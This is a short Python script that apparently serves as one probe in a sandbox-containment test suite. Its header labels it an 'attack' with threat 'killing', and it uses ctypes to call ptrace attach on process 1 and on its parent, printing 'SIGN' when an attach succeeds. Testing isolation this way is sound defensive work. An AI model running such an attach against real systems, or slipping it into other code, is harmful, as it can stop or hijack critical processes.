# /// attack
# name = "ptrace"
# threat = "killing"
# tries = "Attaches itself to process 1 and to its parent."
# walls = true
# ///

import ctypes, os

libc = ctypes.CDLL(None, use_errno=True)
for pid in {1, os.getppid()} - {0}:
    if libc.ptrace(16, pid, 0, 0) == 0:
        print("SIGN", pid)
